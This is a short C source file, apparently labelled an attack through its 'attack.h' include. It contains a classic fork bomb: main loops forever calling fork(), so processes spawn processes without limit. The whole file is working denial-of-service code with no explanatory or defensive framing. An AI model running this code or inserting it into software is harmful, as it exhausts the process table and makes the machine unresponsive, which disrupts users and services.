/* Makes processes that make processes, all of them busy, for as long as it is let. */
#include "attack.h"

int main(void) {
    for (;;)
        fork();
}
